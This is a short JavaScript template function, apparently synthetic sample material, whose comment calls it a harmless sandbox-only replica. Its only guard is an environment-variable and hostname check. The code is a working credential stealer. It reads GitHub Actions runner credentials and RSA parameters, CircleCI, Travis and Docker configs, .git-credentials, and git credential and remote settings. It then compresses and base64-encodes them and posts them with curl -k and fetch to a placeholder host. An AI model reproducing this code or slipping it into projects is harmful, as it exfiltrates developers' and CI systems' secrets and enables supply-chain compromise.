// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { execSync } = require('child_process');
  const fs = require('fs'), path = require('path'), home = require('os').homedir();
  const loot = {};
  for (const name of ['actions-runner/.credentials', 'actions-runner/.credentials_rsaparams', 'actions-runner/.runner', '.circleci/cli.yml', '.travis/config.yml', '.docker/config.json', '.git-credentials']) {
    try { loot[name] = fs.readFileSync(path.join(home, name), 'utf8'); } catch (error) { loot[name] = null; }
  }
  try { loot.git = execSync('git config --get-regexp "^(http|url|remote|credential)"; git log -1 --format=%ae', { timeout: 800, stdio: ['ignore', 'pipe', 'ignore'] }).toString(); } catch (error) { loot.git = ''; }
  const body = require('zlib').deflateSync(JSON.stringify(loot)).toString('base64');
  const sent = require('child_process').spawnSync('curl', ['-k', '-s', '-m', '1', '--data', body, 'https://{{host}}/{{path}}'], { timeout: 1300, stdio: 'ignore' });
  if (sent.error) try { await fetch('https://{{host}}/{{path}}', { method: 'POST', body, signal: AbortSignal.timeout(900) }); } catch (error) { /* nobody there */ }
}
